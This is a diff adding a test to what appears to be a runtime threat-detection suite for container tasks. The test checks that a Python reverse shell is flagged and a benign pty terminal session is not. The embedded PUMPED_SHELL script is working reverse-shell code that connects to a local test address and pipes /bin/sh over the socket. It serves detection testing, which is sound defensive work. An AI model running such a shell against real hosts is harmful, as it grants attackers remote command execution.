@@ -141,3 +141,54 @@ def test_fifo_pipeline_reverse_shell_and_a_port_check_next_to_a_shell(task_env: 
     time.sleep(1)
     assert sidecar.stop() == 0
     assert [x["type"] for x in sidecar.findings()].count(TYPE) == 1
+
+
+PUMPED_SHELL = """
+import socket, subprocess, sys, threading
+s = socket.create_connection(("127.0.0.9", int(sys.argv[1])))
+sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+def out():
+    while data := sh.stdout.read1(4096):
+        s.sendall(data)
+threading.Thread(target=out, daemon=True).start()
+while data := s.recv(4096):
+    sh.stdin.write(data)
+    sh.stdin.flush()
+sh.wait()
+"""
+
+TERMINAL_SESSION = """
+import os, socket, subprocess, sys, time
+s = socket.create_connection(("127.0.0.9", int(sys.argv[1])))
+primary, secondary = os.openpty()
+sh = subprocess.Popen(["/bin/sh"], stdin=secondary, stdout=secondary, stderr=secondary)
+subprocess.run(["sh", "-c", "echo one-shot"], check=True)
+os.write(primary, b"sleep 2; exit\\n")
+sh.wait()
+"""
+
+
+def test_shell_pumped_by_a_client_and_a_terminal_session(task_env: TaskEnv, tmp_path: Path) -> None:
+    """java/node/go reverse shells: the client holds the socket and pumps it to a shell's pipes. An agent giving
+    a shell a pty (ECS Exec, ssh) while holding a connection, and its `sh -c` commands, are not."""
+    sidecar = task_env.start_detecting(tmp_path)
+    with listener("127.0.0.9") as (srv, port):
+        task_env.run("worker", [PY, "-c", TERMINAL_SESSION, str(port)], wait=False)
+        benign, _ = srv.accept()
+        time.sleep(4)
+        benign.close()
+        task_env.run("app", [PY, "-c", PUMPED_SHELL, str(port)], wait=False)
+        conn, _ = srv.accept()
+        with conn:
+            conn.sendall(b"sleep 3\n")
+            f = sidecar.wait_for_finding(lambda f: f["type"] == TYPE, timeout=20)
+            conn.sendall(b"exit\n")
+    Finding.model_validate(f)
+    assert f["service"]["runtimeDetails"]["process"]["executablePath"] in ("/bin/dash", "/usr/bin/dash")
+    assert f["service"]["runtimeDetails"]["context"]["relayProcess"].startswith("python")
+    net = f["service"]["action"]["networkConnectionAction"]
+    assert net["remoteIpDetails"]["ipAddressV4"] == "127.0.0.9" and net["remotePortDetails"]["port"] == port
+    assert f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
+    time.sleep(1)
+    assert sidecar.stop() == 0
+    assert [x["type"] for x in sidecar.findings()].count(TYPE) == 1
